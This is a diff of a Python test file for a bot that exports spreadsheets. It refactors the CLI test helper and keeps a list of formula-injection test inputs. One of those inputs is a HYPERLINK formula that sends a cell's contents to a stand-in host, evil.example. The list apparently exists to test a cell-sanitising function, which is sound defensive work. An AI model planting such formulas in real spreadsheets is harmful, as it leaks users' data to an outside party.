@@ -10,9 +10,7 @@ from __future__ import annotations
 import ast
 import csv
 import io
-import os
 import subprocess
-import sys
 from pathlib import Path
 
 import openpyxl
@@ -22,8 +20,8 @@ from starlette.testclient import TestClient
 from bot.config import Settings
 from bot.spreadsheet import safe_cell
 from bot.store import Store
+from tests.cli import clean_env, run_cli
 
-TEAMSPIEGEL = str(Path(sys.executable).with_name("teamspiegel"))
 BOT = Path(__file__).resolve().parent.parent / "bot"
 EVIL = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)",
         "\t=1+1", "\r=1+1", " =1+1"]
@@ -84,11 +82,7 @@ def _seed_answers(path: Path) -> None:
 
 
 def _cli(db: Path, *args: str) -> subprocess.CompletedProcess[str]:
-    env = {k: v for k, v in os.environ.items()
-           if not k.startswith(("TELEGRAM_", "MATRIX_", "TEAMSPIEGEL_"))}
-    env["TEAMSPIEGEL_DB"] = str(db)
-    proc = subprocess.run([TEAMSPIEGEL, *args], env=env, cwd=db.parent, capture_output=True,
-                          text=True, timeout=60)
+    proc = run_cli(*args, env=clean_env(db), cwd=db.parent)
     assert proc.returncode == 0, proc.stderr
     return proc
 
